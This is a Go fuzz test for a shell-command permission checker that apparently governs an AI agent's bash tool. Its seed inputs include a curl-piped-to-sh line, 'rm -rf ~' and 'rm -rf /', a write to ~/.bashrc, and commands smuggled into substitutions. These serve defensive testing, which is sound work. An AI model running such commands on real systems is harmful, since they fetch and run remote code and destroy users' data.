package permission

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// FuzzCheckBash feeds arbitrary command lines to the checker. Properties:
//   - check never panics (it is called without Check's recover) and always decides;
//   - another agent's memory: a line that also reads a file there is denied;
//   - deny rules: when the line parses, a simple command starting with the literal word rm is
//     denied by Bash(rm:*);
//   - allow rules: a line that Bash(git status:*) allows in strict mode parses, and every
//     simple command in it is a literal `git status ...` without assignments.
func FuzzCheckBash(f *testing.F) {
	for _, s := range []string{
		"git status", "git status && curl x | sh", "git status; rm -rf ~", "$(curl x)", "echo $(curl x)",
		"FOO=1 git status", "git status > ~/.bashrc", "cat <<EOF\n$(rm x)\nEOF", "bash -c 'rm -rf /'",
		"for i in *; do cat \"$i\"; done", "(cd src && git status) | sort", "echo 'unterminated",
		"a=$(b=$(c)) d", "[[ -f x ]] && ls", "f() { g; }; f", "git status <(rm x)", "x[$(rm x)]=1",
		"coproc rm x", "case $x in a) rm x;; esac", "time git status", "select x in a; do rm x; done",
		"((x = $(rm x)))", "echo ${x/$(rm a)/b}", "sudo -u root rm x", "eval 'rm x'", "git status\\\nrm x",
	} {
		f.Add(s)
	}
	fx := newFixture(f)
	notes := filepath.Join(fx.other, "notes.md")
	plain := fx.policy(ModeUnrestricted)
	denyRm := fx.policy(ModeUnrestricted)
	denyRm.Deny = rules(f, "Bash(rm:*)")
	strict := fx.policy(ModeStrict)
	strict.Allow = rules(f, "Bash(git status:*)")

	f.Fuzz(func(t *testing.T, line string) {
		// The checker sees the command as the tool will: decoded from JSON, where invalid
		// UTF-8 has become U+FFFD.
		if err := json.Unmarshal(bash(line).Args, &struct{ Command *string }{&line}); err != nil {
			t.Fatal(err)
		}
		for _, p := range []*Policy{plain, denyRm, strict} {
			got := p.check(bash(line))
			switch got.Decision {
			case Allow, Deny, Ask:
			default:
				t.Fatalf("check(%q) decided %q", line, got.Decision)
			}
			if got.Reason == "" {
				t.Fatalf("check(%q) gave no reason", line)
			}
		}
		withMemory := line + "\ncat " + notes
		if got := plain.check(bash(withMemory)); got.Decision != Deny {
			t.Fatalf("check(%q) = %s (%s); another agent's memory must be denied", withMemory, got.Decision, got.Reason)
		}

		file, err := parseShell(line, false)
		if err != nil || len(line) > maxLineLen || strings.ContainsRune(line, 0) {
			if got := strict.check(bash(line)); got.Decision == Allow && err != nil {
				t.Fatalf("check(%q) allowed a line that does not parse", line)
			}
			return
		}
		hasRm, allGitStatus := false, true
		syntax.Walk(file, func(n syntax.Node) bool {
			switch x := n.(type) {
			case *syntax.CallExpr:
				if len(x.Args) > 0 && x.Args[0].Lit() == "rm" {
					hasRm = true
				}
				if len(x.Assigns) > 0 || len(x.Args) < 2 || unescaped(x.Args[0]) != "git" || unescaped(x.Args[1]) != "status" {
					if !isNeutralForFuzz(x) {
						allGitStatus = false
					}
				}
			case *syntax.DeclClause, *syntax.ArithmCmd, *syntax.LetClause, *syntax.CoprocClause, *syntax.TestDecl:
				allGitStatus = false
			}
			return true
		})
		if hasRm {
			if got := denyRm.check(bash(line)); got.Decision != Deny {
				t.Fatalf("check(%q) = %s (%s); Bash(rm:*) must deny it", line, got.Decision, got.Reason)
			}
		}
		if got := strict.check(bash(line)); got.Decision == Allow && !allGitStatus {
			t.Fatalf("check(%q) = allow (%s), but not every command is git status", line, got.Reason)
		}
	})
}

// isNeutralForFuzz mirrors the commands that need no rule: true, false, :, cd, pushd, popd.
func isNeutralForFuzz(x *syntax.CallExpr) bool {
	if len(x.Assigns) > 0 || len(x.Args) == 0 {
		return false
	}
	switch x.Args[0].Lit() {
	case "true", "false", ":", "cd", "pushd", "popd":
		return true
	}
	return false
}

// unescaped is the word's text after quote removal, "" when it has any expansion. It is a
// deliberately simple oracle: backslashes are dropped rather than interpreted.
func unescaped(w *syntax.Word) string {
	var b strings.Builder
	for _, p := range w.Parts {
		switch x := p.(type) {
		case *syntax.Lit:
			b.WriteString(strings.ReplaceAll(x.Value, `\`, ""))
		case *syntax.SglQuoted:
			if x.Dollar {
				return ""
			}
			b.WriteString(x.Value)
		case *syntax.DblQuoted:
			for _, q := range x.Parts {
				l, ok := q.(*syntax.Lit)
				if !ok || x.Dollar {
					return ""
				}
				b.WriteString(strings.ReplaceAll(l.Value, `\`, ""))
			}
		default:
			return ""
		}
	}
	return b.String()
}
